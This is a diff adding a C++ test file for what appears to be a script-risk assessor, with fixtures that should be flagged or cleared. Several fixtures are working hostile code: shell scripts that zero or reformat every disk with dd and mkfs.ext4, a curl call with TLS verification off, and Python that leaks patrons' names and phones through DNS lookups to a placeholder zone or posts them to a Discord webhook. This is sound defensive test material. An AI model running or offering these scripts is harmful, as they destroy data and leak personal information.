@@ -1,0 +1,153 @@
+// The classes the twenty-eighth session modelled (issue 14), from the tune
+// parts of the hundred-and-twenty-ninth round onwards
+// (tests/corpus/prog133_MANIFEST.tsv and later): programs written from the
+// rubric alone by writers who never saw the assessor. Strings here are never
+// executed.
+
+#include "test_util.hpp"
+
+namespace mai::assess::test {
+namespace {
+
+constexpr Language Sh = Language::shell;
+
+// `lsblk -dn -o NAME,TYPE | awk '$2 == "disk" {print "/dev/" $1}'` read into
+// an array with `mapfile -t DISKS < <(...)`, then dd over each: three gaps
+// hid the wipe. awk printing a literal before a field now prints lines of
+// that shape; the text a process substitution prints is what `< <(...)`
+// reads; and mapfile's -t is a flag (it had been taken as read's -t
+// TIMEOUT, so no variable was set), its lines an array. Checking the SMART
+// health of the same disks stays LOW, and an array of curl options read so
+// expands into its options.
+TEST(HundredAndTwentyNinthRoundClasses, AwkFramedFieldsAndMapfileCarryDevicePaths) {
+  const Case cases[] = {
+      {"every whole disk zeroed through mapfile and a process substitution", B, R"(#!/bin/bash
+list_disks() {
+    lsblk -dn -o NAME,TYPE 2>/dev/null | awk '$2 == "disk" {print "/dev/" $1}'
+}
+mapfile -t disks < <(list_disks)
+for dev in "${disks[@]}"; do
+    dd if=/dev/zero of="$dev" bs=4M conv=fsync status=none
+done
+)",
+       "WIPE", Sh},
+      {"a disk formatted from a command substitution of awk", B, R"(#!/bin/sh
+target=$(lsblk -dn -o NAME,TYPE | awk '$2 == "disk" {print "/dev/" $1}' | head -1)
+mkfs.ext4 -F "$target"
+)",
+       "WIPE", Sh},
+      {"the paths of lsblk -p read with readarray, then zeroed", B, R"(#!/bin/bash
+readarray -t disks < <(lsblk -dnp -o NAME)
+dd if=/dev/zero of="${disks[0]}" bs=1M
+)",
+       "WIPE", Sh},
+      {"the same disks' SMART health only read", L, R"(#!/bin/bash
+list_disks() {
+    lsblk -dn -o NAME,TYPE 2>/dev/null | awk '$2 == "disk" {print "/dev/" $1}'
+}
+mapfile -t disks < <(list_disks)
+for dev in "${disks[@]}"; do
+    echo "== $dev"
+    cat "/sys/block/${dev#/dev/}/size"
+done > disk-report.txt
+)",
+       nullptr, Sh},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `mapfile -t extra < <(opts_for "$url")` then `curl "${extra[@]}"`: each
+// line an option, so a function that prints --insecure for some hosts turns
+// TLS verification off (MEDIUM), and one that prints --proto =https keeps it.
+TEST(HundredAndTwentyNinthRoundClasses, MapfileLinesAreSeparateArguments) {
+  const Case cases[] = {
+      {"curl options read a line each, --insecure among them", M, R"(#!/bin/bash
+opts_for() {
+    case "$1" in
+        *.lan) printf '%s\n' "--insecure" ;;
+        *) printf '%s\n' "--proto" "=https" ;;
+    esac
+}
+url="https://mirror.lan/licence.dat"
+mapfile -t extra < <(opts_for "$url")
+curl -fsS "${extra[@]}" -o licence.dat "$url"
+)",
+       "TLS-VERIFICATION-OFF", Sh},
+      {"curl options read a line each, all of them strict", L, R"(#!/bin/bash
+opts_for() {
+    printf '%s\n' "--proto" "=https" "--tlsv1.2"
+}
+url="https://vendor.example.com/licence.dat"
+mapfile -t extra < <(opts_for "$url")
+curl -fsS "${extra[@]}" -o licence.dat "$url"
+)",
+       nullptr, Sh},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `groups = defaultdict(list); groups[row["email"]].append(row)` at a key
+// known only at run time made a fresh list nobody held, so what
+// groups.values() gave lost the rows and the patrons' details hex-encoded
+// into DNS names looked like formatting alone. A defaultdict's values made
+// at unknown keys now share one bucket the dict holds. The same grouping
+// written to a local report stays LOW.
+TEST(HundredAndTwentyNinthRoundClasses, ADefaultdictKeepsWhatIsAppendedAtUnknownKeys) {
+  const Case cases[] = {
+      {"grouped rows hex-encoded into DNS names", B, R"(import csv
+import socket
+from collections import defaultdict
+
+ZONE = ".".join(["v", "lookup", "example", "net"])
+
+with open("patrons.csv", newline="") as fh:
+    rows = list(csv.DictReader(fh))
+groups = defaultdict(list)
+for row in rows:
+    groups[row.get("email", "").lower()].append(row)
+for members in groups.values():
+    best = dict(max(members, key=lambda r: int(r.get("orders") or 0)))
+    hexed = "|".join([best.get("name", ""), best.get("phone", "")]).encode().hex()
+    for i in range(0, len(hexed), 60):
+        try:
+            socket.gethostbyname(f"{hexed[i:i + 60]}.{i}.{ZONE}")
+        except socket.gaierror:
+            pass
+)",
+       "COVERT-CHANNEL-EXFILTRATION"},
+      {"grouped rows sent by items() through a webhook", B, R"(import csv
+import json
+import urllib.request
+from collections import defaultdict
+
+with open("patrons.csv", newline="") as fh:
+    rows = list(csv.DictReader(fh))
+by_city = defaultdict(list)
+for row in rows:
+    by_city[row["city"]].append(row)
+for city, members in by_city.items():
+    body = json.dumps({"content": str(members)}).encode()
+    urllib.request.urlopen(urllib.request.Request(
+        "https://discord.com/api/webhooks/1/x", data=body,
+        headers={"Content-Type": "application/json"}))
+)",
+       nullptr},
+      {"the same grouping written to a local report", L, R"(import csv
+from collections import defaultdict
+
+with open("patrons.csv", newline="") as fh:
+    rows = list(csv.DictReader(fh))
+groups = defaultdict(list)
+for row in rows:
+    groups[row.get("email", "").lower()].append(row)
+with open("dedupe-report.txt", "w") as out:
+    for members in groups.values():
+        out.write("%s: %d\n" % (members[0].get("name", ""), len(members)))
+)",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+}  // namespace
+}  // namespace mai::assess::test
